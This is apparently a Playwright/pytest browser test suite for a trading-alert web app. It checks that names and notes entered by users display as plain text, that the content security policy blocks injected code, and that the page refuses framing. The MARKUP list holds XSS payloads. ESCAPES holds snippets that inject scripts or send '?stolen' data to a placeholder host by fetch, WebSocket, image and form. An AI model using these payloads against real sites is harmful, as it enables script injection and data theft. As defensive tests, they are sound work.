"""The built page when others are hostile: what they write is text, what runs is ours, and nobody frames it."""

from typing import Any

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

pytestmark = pytest.mark.browser

MARKUP = [
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "</style></script><script>window.hacked=1</script>",
    '"><iframe srcdoc="<script>parent.hacked=1</script>">',
    "{@html window.hacked=1} ${window.hacked=1} {{hacked=1}}",
    "<a href=javascript:window.hacked=1>here</a>",
]
HOOK = {"kind": "webhook", "url": "https://93.184.216.34/", "secret": "at least 24 letters, drawn by lot"}


@pytest.fixture
def page(context: BrowserContext, address: str) -> Page:
    page = context.new_page()
    page.add_init_script(
        "window.refused = []; "
        "document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))"
    )
    page.goto(address)
    page.wait_for_selector(".lists tbody tr", timeout=20_000)
    return page


def expect_nothing_ran(page: Page) -> None:
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("document.querySelectorAll('img, iframe, object, embed, [href^=javascript]').length") == 0
    assert page.evaluate("window.refused") == []


def create(address: str, path: str, **content: Any) -> str:
    return str(httpx.post(f"{address}/api/v1/{path}", json=content).raise_for_status().json()["id"])


@pytest.mark.parametrize("markup", MARKUP, ids=["image", "drawing", "script", "frame", "template", "link"])
def test_markup_in_what_users_name_is_shown_as_text(page: Page, address: str, markup: str) -> None:
    made = [
        create(address, "toplists/user", name=markup, metric="price"),
        create(address, "watchlists", name=markup, symbols=["AAPL"]),
        create(address, "channels", name=markup, settings=HOOK),
    ]
    rule = create(address, "rules", name=markup, description=markup, when="price > 0", cooldown=3_600)
    try:
        expect(page.locator("[data-light=socket]")).to_have_text("Connected")
        alert = page.locator(".alerts li").filter(has_text=markup).first
        expect(alert).to_be_visible(timeout=10_000)
        alert_id = httpx.get(f"{address}/api/v1/alerts", params={"limit": 1}).json()["items"][0]["alert_id"]
        httpx.put(f"{address}/api/v1/alerts/{alert_id}/note", json={"note": markup}).raise_for_status()
        page.reload()
        rules = page.get_by_role("region", name="Rules")
        expect(rules.get_by_text(markup, exact=True).first).to_be_visible(timeout=20_000)
        expect(page.locator(".alerts li").filter(has_text=markup).first).to_be_visible(timeout=10_000)
        expect(page.locator("optgroup option").filter(has_text=markup).first).to_be_attached()
        page.locator(".alerts li").filter(has_text=markup).first.get_by_role("button").first.click()
        expect(page.get_by_role("dialog").first).to_be_visible()
        expect_nothing_ran(page)
    finally:
        httpx.delete(f"{address}/api/v1/rules/{rule}").raise_for_status()
        for kind, name in zip(("toplists/user", "watchlists", "channels"), made, strict=True):
            httpx.delete(f"{address}/api/v1/{kind}/{name}").raise_for_status()


ESCAPES = {
    "script in the page": (
        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
        "script-src-elem",
    ),
    "script from elsewhere": (
        "const s = document.createElement('script'); s.src = 'http://127.0.0.1:1/x.js'; document.body.append(s)",
        "script-src-elem",
    ),
    "handler in an attribute": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hacked=1>')",
        "script-src-attr",
    ),
    "style in the page": (
        "const s = document.createElement('style'); s.textContent = '*{color:red}'; document.body.append(s)",
        "style-src-elem",
    ),
    "request to elsewhere": ("fetch('http://127.0.0.1:1/?stolen').catch(() => 0)", "connect-src"),
    "socket to elsewhere": ("try { new WebSocket('ws://127.0.0.1:1/stolen') } catch {}", "connect-src"),
    "picture from elsewhere": ("new Image().src = 'http://127.0.0.1:1/?stolen'", "img-src"),
    "form to elsewhere": (
        "document.body.insertAdjacentHTML('beforeend', '<form id=f action=http://127.0.0.1:1/>'); f.submit()",
        "form-action",
    ),
    "another base": (
        "const b = document.createElement('base'); b.href = 'http://127.0.0.1:1/'; document.head.append(b)",
        "base-uri",
    ),
    "object": (
        "const o = document.createElement('object'); o.data = 'data:text/html,x'; document.body.append(o)",
        "object-src",
    ),
}


@pytest.mark.parametrize(("does", "directive"), ESCAPES.values(), ids=ESCAPES)
def test_markup_that_came_in_all_the_same_could_do_nothing(page: Page, does: str, directive: str) -> None:
    page.evaluate(f"() => {{ {does} }}")
    page.wait_for_function("(wanted) => refused.includes(wanted)", arg=directive, timeout=5_000)
    assert page.evaluate("window.hacked") is None


def test_page_is_in_nobody_s_frame(context: BrowserContext, address: str) -> None:
    page = context.new_page()
    refusals: list[str] = []
    page.on("console", lambda message: refusals.append(message.text))
    with page.expect_console_message(lambda message: "frame" in message.text.lower(), timeout=10_000):
        page.set_content(f'<iframe src="{address}"></iframe>')
    assert page.frames[1].query_selector("#app") is None
    assert any("frame" in text.lower() for text in refusals)
